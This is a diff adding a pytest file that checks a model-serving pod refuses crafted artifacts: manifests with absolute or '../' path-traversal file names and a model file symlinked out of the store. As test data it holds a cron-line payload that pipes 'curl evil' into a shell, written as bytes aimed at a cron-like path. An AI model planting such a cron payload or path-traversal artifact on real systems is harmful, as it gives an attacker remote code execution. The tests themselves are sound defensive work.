@@ -1,0 +1,71 @@
+"""A crafted artifact (names leaving the artifact or the cache, symlinks out of the store) is
+refused by the pod with the entry named, and never replaces the bundle that serves."""
+
+from __future__ import annotations
+
+import dataclasses
+import hashlib
+from pathlib import Path
+
+import pytest
+from tests.unit.ranker.builders import Published
+from tests.unit.ranker.test_ranker_convergence import Pod
+
+from rankswap.artifacts import FileEntry, parse_uri, read_manifest
+
+pytestmark = pytest.mark.timeout(60)
+PAYLOAD = b"* * * * * root curl evil | sh\n"
+
+
+@pytest.fixture
+def pod(tmp_path: Path, file_root: str, cache_dir: Path) -> Pod:
+    return Pod(tmp_path / "run", [file_root], cache_dir)
+
+
+def crafted_copy(published: Published, label: str, files: dict[str, bytes]) -> str:
+    """The published model re-labelled ``label`` whose manifest lists ``files`` instead."""
+    good = read_manifest(published.model_uri)
+    folder = Path(parse_uri(published.model_uri).path).parent / label
+    folder.mkdir()
+    entries = {
+        name: FileEntry(len(data), hashlib.sha256(data).hexdigest()) for name, data in files.items()
+    }
+    (folder / "manifest.json").write_bytes(
+        dataclasses.replace(good, files=entries, version=f"{label}-0badc0de").to_json()
+    )
+    return folder.as_uri()
+
+
+@pytest.mark.parametrize("kind", ["absolute", "dotdot"])
+def test_a_crafted_model_never_replaces_the_serving_bundle(
+    pod: Pod, published: Published, tmp_path: Path, kind: str
+) -> None:
+    pod.push(published.model_uri, published.features_uri)
+    target = tmp_path / "etc-cron.d-rankswap"
+    name = str(target) if kind == "absolute" else "../../../../etc-cron.d-rankswap"
+    bad = crafted_copy(published, "2026-11-21", {name: PAYLOAD, "model.onnx": b"x"})
+    pod.push(bad, published.features_uri)
+    assert pod.active() == [published.bundle_id] * 2
+    state = pod.coordinator.state()
+    assert state["desired"]["status"] == "failed"
+    assert state["active"]["bundle_id"] == published.bundle_id
+    err = state["last_error"]
+    assert (err["type"], err["code"], err["file"]) == ("UnsafePath", "artifact_unusable", name)
+    assert repr(name) in err["message"]
+    assert not target.exists() and not list(tmp_path.rglob("etc-cron.d-rankswap"))
+
+
+def test_a_model_file_symlinked_out_of_the_store_is_not_served(
+    pod: Pod, published: Published, tmp_path: Path
+) -> None:
+    pod.push(published.model_uri, published.features_uri)
+    outside = tmp_path / "not-in-the-store.onnx"
+    model_path = Path(parse_uri(published.model_uri).path) / "model.onnx"
+    outside.write_bytes(model_path.read_bytes())
+    bad = crafted_copy(published, "2026-11-22", {"model.onnx": outside.read_bytes()})
+    (Path(parse_uri(bad).path) / "model.onnx").symlink_to(outside)
+    pod.push(bad, published.features_uri)
+    assert pod.active() == [published.bundle_id] * 2
+    err = pod.coordinator.state()["last_error"]
+    assert err["type"] == "UnsafePath" and err["file"] == "model.onnx"
+    assert "outside" in err["message"]
